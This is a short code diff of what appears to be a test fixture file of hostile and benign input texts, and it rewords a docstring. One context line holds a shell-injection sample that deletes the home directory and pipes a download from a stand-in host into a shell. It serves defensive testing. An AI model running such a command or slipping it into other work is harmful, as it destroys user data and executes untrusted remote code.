@@ -66,7 +66,7 @@ TEXTS: Mapping[str, str] = {
     "NDJSON": '{"type": "digest", "status": "passed"}\n{"type": "end"}',
     "shell": "; rm -rf ~ # && curl evil.example | sh",
 }
-"""Hostile texts by what they try; nothing that says OWNED must ever be shown."""
+"""Hostile texts by what they attempt; nothing that contains OWNED may ever be shown."""
 
 GOOD: Mapping[str, str] = {
     "accents": "Zoë, Größe, naïve, Ångström",
